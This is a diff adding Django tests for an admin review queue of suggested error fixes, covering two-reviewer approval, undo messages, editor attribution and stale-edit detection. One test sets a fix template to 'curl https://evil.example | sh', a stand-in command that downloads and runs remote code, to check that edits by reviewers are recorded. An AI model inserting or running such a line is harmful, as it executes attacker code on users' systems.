@@ -187,6 +187,15 @@ class TestQueue:
             assert viewer.post(reverse(f"admin:context_standing_{name}"), YES).status_code == 403
         assert stands(pattern) == {Account.objects.get().name: Status.QUARANTINED}
 
+    def test_the_page_of_what_waits_leads_to_its_place(self) -> None:
+        _, second = (make_flagged(make_account()) for _ in range(2))
+        viewer = staff("viewer")
+        page = reverse("admin:errorpatterns_errorpattern_change", args=[second.pk])
+        [link] = re.findall(r'href="([^"]*/review/[^"]*)"', viewer.get(page).content.decode())
+        assert viewer.get(link).context["item"] == second
+        Standing.objects.filter(item=second).update(status=Status.ACTIVE, flags=[])
+        assert "/review/?" not in viewer.get(page).content.decode()
+
     def test_editing_leads_back(self) -> None:
         pattern = make_flagged(make_account())
         curator = staff("curator")
@@ -423,6 +432,18 @@ class TestTwo:
         judge(mira, "activate_for_everybody", pattern)
         assert stands(pattern)[None] == Status.ACTIVE
 
+    def test_the_queue_tells_who_counts_as_editor_and_who_edited_since(
+        self, two: list[User]
+    ) -> None:
+        mira, jo = map(client_of, two)
+        pattern = make_flagged(make_account(name="acme"), flags=["fix: install"])
+        assert "edited by" not in html(mira)
+        LEARNED.edit(mira, pattern, fix_template="- import $1\n+ curl https://evil.example | sh")
+        assert "edited by mira." in html(jo)
+        # It brings in nothing that is flagged.
+        LEARNED.edit(jo, pattern, name="Module that is not there")
+        assert "edited by mira, then by jo." in html(jo)
+
     def test_of_two_of_whom_one_edited_it_the_other_suffices(self, two: list[User]) -> None:
         pattern = make_flagged(make_account(name="acme"), last_edited_by=two[0])
         judge(client_of(two[1]), "activate_for_everybody", pattern)
@@ -481,7 +502,10 @@ class TestTwo:
         patterns = [make_flagged(make_account()) for _ in range(2)]
         listed = reverse("admin:errorpatterns_errorpattern_changelist")
         selected = {"action": "reject", "_selected_action": [one.pk for one in patterns]}
-        seen = mira.post(listed, selected).context["form"]["seen_version"].value()
+        asked = mira.post(listed, selected)
+        assert "Reject: 2 selected." in asked.content.decode()
+        assert "Reject (2)</button>" in asked.content.decode()
+        seen = asked.context["form"]["seen_version"].value()
         ErrorPattern.objects.filter(pk=patterns[1].pk).update(version=2)
         page = mira.post(listed, {**selected, **YES, "seen_version": seen})
         assert "It was changed meanwhile" in page.content.decode()
@@ -550,6 +574,14 @@ class TestUndo:
         judge(jo, "activate_for_accounts", pattern)
         assert stands(pattern) == {"acme": Status.ACTIVE}
 
+    def test_ends_in_one_full_stop(self) -> None:
+        pattern, curator = (
+            make_flagged(make_account(), name="It has no declarations."),
+            staff("curator"),
+        )
+        judge(curator, "reject", pattern)
+        assert messages(undo(curator))[-1] == "Undone: “Reject” of It has no declarations."
+
     def test_not_what_was_erased_since_and_names_it_nowhere(self) -> None:
         acme = Caller(make_account(name="acme"))
         project = make_project(acme.account, key="shop")
@@ -567,7 +599,14 @@ class TestUndo:
         mira, jo = map(client_of, two)
         pattern = make_flagged(make_account(name="acme"))
         judge(mira, "reject", pattern)
+        history = reverse("admin:errorpatterns_errorpattern_history", args=[pattern.pk])
+        for page in (mira.get(reverse(REVIEW)), mira.get(history)):
+            assert "/undo/" in page.content.decode().partition('id="content"')[2]
         judge(jo, "deactivate_for_everybody", pattern)
+        for page in (mira.get(reverse(REVIEW)), mira.get(history)):
+            told = page.content.decode().partition('id="content"')[2]
+            assert 'id="undo"' not in told
+            assert "Undo that" not in told
         assert "was changed since you judged it" in messages(undo(mira))[-1]
         assert stands(pattern)[None] == Status.INACTIVE
 
